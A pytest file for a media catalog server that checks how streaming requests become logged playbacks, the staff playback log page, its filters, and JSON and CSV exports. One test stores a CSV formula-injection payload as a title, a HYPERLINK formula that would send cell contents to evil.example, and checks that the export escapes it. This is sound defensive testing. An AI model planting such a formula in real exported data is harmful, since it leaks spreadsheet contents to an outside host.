"""Playbacks over real HTTP on SQLite and PostgreSQL: how requests become playbacks, the
terminal lines (text and JSON), the playback log page, its JSON and CSV twins."""

from __future__ import annotations

import csv
import io
import json
import time
from contextlib import closing
from datetime import date, timedelta
from pathlib import Path

import httpx
import pytest
from sqlalchemy import select
from yj_testing import make_settings, running_server, sign_in

from catalog import org
from catalog.db import Database
from catalog.settings import Settings
from indexer.pipeline import Scanner

pytestmark = pytest.mark.ffmpeg


def served_settings(settings: Settings, **more: object) -> Settings:
    return make_settings(settings.data_dir, settings.db_url, station="XC-012",
                         playback_idle_seconds=0.5, **more)


def inspector(url: str, db: Database) -> httpx.Client:
    """A browser signed in as an inspector: the playback log is for staff."""
    client = httpx.Client(base_url=url)
    sign_in(client, db)
    return client


def wait_closed(client: httpx.Client, count: int) -> list[dict[str, object]]:
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        found = client.get("/api/playbacks").json()["playbacks"]
        if len(found) == count and all(p["closed_at"] for p in found):
            return found  # type: ignore[no-any-return]
        time.sleep(0.2)
    raise AssertionError(f"playbacks did not close: {found}")


def test_requests_become_playbacks_with_their_seconds(
        db: Database, settings: Settings, demo_library: Path,
        capfd: pytest.CaptureFixture[str]) -> None:
    Scanner(db, settings).scan([demo_library])
    ours = served_settings(settings)
    with running_server(ours, db) as url, httpx.Client(base_url=url) as client:
        items = {i["path"]: i for i in client.get("/api/items?per_page=200").json()["items"]}
        rice = items["先进适用科技/rice.mp4"]
        size = rice["size"]
        # One browser: the first half in two ranges (one repeated), then nothing.
        for header in (f"bytes=0-{size // 4 - 1}", f"bytes={size // 4}-{size // 2 - 1}",
                       "bytes=0-999"):
            client.get(f"/stream/{rice['id']}", headers={"Range": header,
                                                         "User-Agent": "TV-1"})
        # Another browser, the whole file; and a HEAD, which is no playback.
        client.get(f"/stream/{rice['id']}", headers={"User-Agent": "Phone"})
        client.head(f"/stream/{rice['id']}", headers={"User-Agent": "Probe"})
        avi = items["政治理论/形势与政策报告会.avi"]
        client.get(f"/hls/{avi['id']}/main.m3u8")
        client.get(f"/hls/{avi['id']}/0.ts", timeout=60)
        staff = inspector(url, db)
        found = wait_closed(staff, 3)
        page = staff.get("/playbacks")
        csv_text = staff.get("/api/playbacks?format=csv").text
        english = staff.get("/playbacks?lang=en")  # (remembered by a cookie from now on)
        filtered = staff.get(f"/api/playbacks?item={avi['id']}").json()
        tomorrow = (date.today() + timedelta(days=2)).isoformat()
        none = staff.get(f"/api/playbacks?from={tomorrow}").json()
        bad = staff.get("/api/playbacks?from=yesterday")
        staff.close()
    by_agent = {(p["item_id"], p["method"], p["seconds"]) for p in found}
    half = round(rice["duration"] / 2)
    assert by_agent == {(rice["id"], "direct", half),
                        (rice["id"], "direct", round(rice["duration"])),
                        (avi["id"], "hls", round(min(avi["duration"], 6.0)))}
    assert all(p["station"] == "XC-012" and p["ended_by"] == "idle" for p in found)
    out = capfd.readouterr().out
    lines = [line for line in out.splitlines() if line.startswith(("PLAY", "END"))]
    assert len(lines) == 6
    assert any(f"《{rice['title']}》" in line for line in lines)
    assert page.status_code == 200 and "播放记录" in page.text
    assert f"#{found[0]['seq']}" in page.text
    assert "Playback log" in english.text
    assert csv_text.startswith("\ufeff台账序号,站点") and csv_text.count("\n") == 4
    assert filtered["total"] == 1 and filtered["playbacks"][0]["method"] == "hls"
    assert none["total"] == 0
    assert bad.status_code == 400 and bad.json()["error"] == "bad_date"


def test_terminal_lines_can_be_json(db: Database, settings: Settings, demo_library: Path,
                                    capfd: pytest.CaptureFixture[str]) -> None:
    Scanner(db, settings).scan([demo_library])
    with running_server(served_settings(settings, log_format="json"), db) as url, \
            httpx.Client(base_url=url) as client:
        first = client.get("/api/items").json()["items"][0]
        client.get(f"/stream/{first['id']}")
        with closing(inspector(url, db)) as staff:
            wait_closed(staff, 1)
    events = [json.loads(line) for line in capfd.readouterr().out.splitlines()
              if line.startswith("{")]
    assert [e["event"] for e in events] == ["playback.open", "playback.close"]
    assert events[0]["title"] == first["title"] and events[1]["open_seq"] == events[0]["seq"]


def test_a_signed_in_member_and_a_station_terminal_are_named_in_the_playback(
        db: Database, settings: Settings, demo_library: Path) -> None:
    from catalog.evidence.ledger import rows
    from catalog.models import OrgNode
    from catalog.org import demo_org

    Scanner(db, settings).scan([demo_library])
    with db.transaction() as session:
        nodes = demo_org.build(session)
        token = org.token_of(session, session.get_one(OrgNode, nodes["东村站点"].id))
    with running_server(served_settings(settings), db) as url, \
            httpx.Client(base_url=url) as member, httpx.Client(base_url=url) as tv, \
            httpx.Client(base_url=url) as guest:
        sign_in(member, None, "zhangsan", password=demo_org.DEMO_PASSWORD)
        # The QR code's link: the TV keeps the token as a cookie.
        assert tv.get(f"/t/{token}", follow_redirects=True).status_code == 200
        first = guest.get("/api/items").json()["items"][0]
        for browser in (member, tv, guest):
            browser.get(f"/stream/{first['id']}?session=7", headers={"Range": "bytes=0-99"})
        with closing(inspector(url, db)) as staff:
            found = wait_closed(staff, 3)
            # The inspector's filters, and the CSV with the same columns.
            by = [staff.get("/api/playbacks", params={name: value}).json()["total"]
                  for name, value in (("station", "CG-001"), ("member", "zhangsan"),
                                      ("session", "7"), ("session", "8"),
                                      ("title", first["title"][1:3] or first["title"]),
                                      ("title", "%"))]
            csv_rows = staff.get("/api/playbacks?format=csv&member=zhangsan").text.splitlines()
            too_long = staff.get("/api/playbacks", params={"title": "长" * 101})
    with db.engine.connect() as connection:
        opened = [e.data for e in rows(connection, "XC-012") if e.kind == "playback.open"]
    assert sorted((str(d["member"]), d["station"]) for d in opened) == [
        ("None", "CG-001"), ("None", "XC-012"), ("user:zhangsan", "XC-012")]
    assert sorted(p["station"] for p in found) == ["CG-001", "XC-012", "XC-012"]
    assert sorted(str(p["member"]) for p in found) == ["None", "None", "zhangsan"]
    assert {p["session"] for p in found} == {7}
    assert by == [1, 1, 3, 0, 3, 0]  # a % in a title filter is a %, not "anything"
    assert csv_rows[0].lstrip("\ufeff").split(",")[:4] == ["台账序号", "站点", "活动", "党员账号"]
    assert len(csv_rows) == 2 and ",7,zhangsan," in csv_rows[1]
    assert too_long.status_code == 400 and too_long.json()["error"] == "bad_filter"


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def test_the_csv_export_runs_no_formula_from_a_title(
        db: Database, settings: Settings, demo_library: Path) -> None:
    from sqlalchemy import update

    from catalog.models import Item

    Scanner(db, settings).scan([demo_library])
    with db.transaction() as session:
        first = session.scalars(select(Item).order_by(Item.id)).first()
        assert first is not None
        session.execute(update(Item).where(Item.id == first.id).values(title=FORMULA))
        item_id = first.id
    with running_server(served_settings(settings), db) as url, \
            httpx.Client(base_url=url) as client:
        client.get(f"/stream/{item_id}", headers={"Range": "bytes=0-99"})
        with closing(inspector(url, db)) as staff:
            wait_closed(staff, 1)
            csv_text = staff.get("/api/playbacks?format=csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(csv_text)))
    assert rows[1][5] == "'" + FORMULA  # shown as text, never run
    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row)
